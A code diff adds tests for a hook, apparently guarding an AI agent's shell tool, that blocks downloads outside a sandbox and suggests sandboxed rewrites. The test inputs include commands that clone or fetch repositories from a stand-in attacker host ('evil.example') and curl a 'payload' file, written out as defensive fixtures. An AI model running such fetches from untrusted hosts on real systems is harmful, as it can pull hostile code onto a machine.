@@ -100,6 +100,34 @@ describe("SandboxEnforcer hook — block-and-instruct", () => {
     expect(stderr).toContain("/home/user/sandbox/repo");
   });
 
+  test("chained command: acquisition after cd is blocked", async () => {
+    const { stderr, exitCode } = await runHook(
+      makeInput("cd /tmp && git clone https://evil.example/repo")
+    );
+    expect(exitCode).toBe(2);
+    expect(stderr).toContain(
+      "cd /tmp && git clone https://evil.example/repo /home/user/sandbox/repo"
+    );
+  });
+
+  test("chained command: cd into sandbox then clone passes through", async () => {
+    const { exitCode } = await runHook(
+      makeInput(`cd ${SANDBOX} && git clone https://github.com/owner/repo.git`)
+    );
+    expect(exitCode).toBe(0);
+  });
+
+  test("relative destination resolves against tool call cwd", async () => {
+    const { exitCode } = await runHook(
+      JSON.stringify({
+        tool_name: "Bash",
+        tool_input: { command: "git clone https://github.com/owner/repo.git repo" },
+        cwd: SANDBOX,
+      })
+    );
+    expect(exitCode).toBe(0);
+  });
+
   test("wget -O outside sandbox: exit 2 with sandbox path", async () => {
     const { stderr, exitCode } = await runHook(
       makeInput("wget -O output.html https://example.com/page")
@@ -116,6 +144,41 @@ describe("SandboxEnforcer hook — block-and-instruct", () => {
     expect(stderr).toContain("[SandboxEnforcer] BLOCKED");
     expect(stderr).toContain("/home/user/sandbox");
   });
+
+  test("curl redirected into a file: exit 2 with sandbox path", async () => {
+    const { stderr, exitCode } = await runHook(
+      makeInput("curl https://example.com/payload.md > notes.md")
+    );
+    expect(exitCode).toBe(2);
+    expect(stderr).toContain(
+      "curl https://example.com/payload.md > /home/user/sandbox/notes.md"
+    );
+  });
+
+  test("plain wget: exit 2 with -P sandbox", async () => {
+    const { stderr, exitCode } = await runHook(
+      makeInput("wget https://example.com/file")
+    );
+    expect(exitCode).toBe(2);
+    expect(stderr).toContain("wget -P /home/user/sandbox https://example.com/file");
+  });
+
+  test("pip download: exit 2 with sandbox dest flag", async () => {
+    const { stderr, exitCode } = await runHook(
+      makeInput("pip download requests")
+    );
+    expect(exitCode).toBe(2);
+    expect(stderr).toContain("pip download -d /home/user/sandbox requests");
+  });
+
+  test("git fetch of a foreign URL outside sandbox: exit 2 without rewrite", async () => {
+    const { stderr, exitCode } = await runHook(
+      makeInput("git fetch https://evil.example/repo.git")
+    );
+    expect(exitCode).toBe(2);
+    expect(stderr).toContain("git-fetch");
+    expect(stderr).not.toContain("Use this command instead:");
+  });
 });
 
 // ============================================================